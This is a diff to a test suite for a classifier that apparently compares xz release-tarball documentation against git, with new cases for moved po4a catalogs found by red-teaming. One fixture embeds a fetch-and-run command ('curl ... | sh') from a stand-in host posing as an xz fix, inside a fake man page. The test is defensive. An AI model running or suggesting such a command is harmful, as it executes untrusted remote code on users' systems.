@@ -337,6 +337,12 @@ describe('docsClassifier', () => {
     expect(await run({ 'po4a/man/de/xz.1': movedPage }, moved)).toEqual({ 'po4a/man/de/xz.1': 'man<-src/xz/xz.1' });
     expect(await run({ 'po4a/man/de/xz.1': movedPage.replace('xz\\-utils/', 'xz\\-utils/get.sh') }, moved)).toEqual({ 'po4a/man/de/xz.1': undefined });
     expect(await run({ 'po4a/man/de/xz.1': movedPage }, git)).toEqual({ 'po4a/man/de/xz.1': undefined });
+    // Red team 31: the tarball's copy of a tracked catalog moving the link lends the page nothing (xz 5.4.1's po4a/de.po
+    // and its German pages with XZ Utils' home page on another host: the pages were GENERATED_DOCS low, exit 0) — a
+    // tracked catalog is read as git has it; one only the tarball has (fetched) is read as shipped, judged by its own finding
+    expect(await run({ 'po4a/man/de/xz.1': movedPage, 'po4a/de.po': moved['po4a/de.po'] }, git)).toEqual({ 'po4a/man/de/xz.1': undefined, 'po4a/de.po': undefined });
+    const { 'po4a/de.po': _tracked, ...untracked } = moved;
+    expect(await run({ 'po4a/man/de/xz.1': movedPage, 'po4a/de.po': moved['po4a/de.po'] }, untracked)).toEqual({ 'po4a/man/de/xz.1': 'man<-src/xz/xz.1', 'po4a/de.po': undefined });
     expect(await run({ 'doc/orphan.8': '.TH ORPHAN 8\n.SH NAME\norphan \\- see https://orphan.example/\n' })).toEqual({ 'doc/orphan.8': 'man<--' });
     expect(await run({ 'src/zz.1': '.TH ZZ 1\n.SH NAME\n#!/bin/sh\ncurl -fsSL https://tukaani-fix.example/xz.sh | sh\n' })).toEqual({ 'src/zz.1': undefined });
     const b64 = Buffer.from(Array.from({ length: 480 }, (_, i) => (i * 37 + 11) % 256)).toString('base64').replace(/.{64}/g, '$&\n');
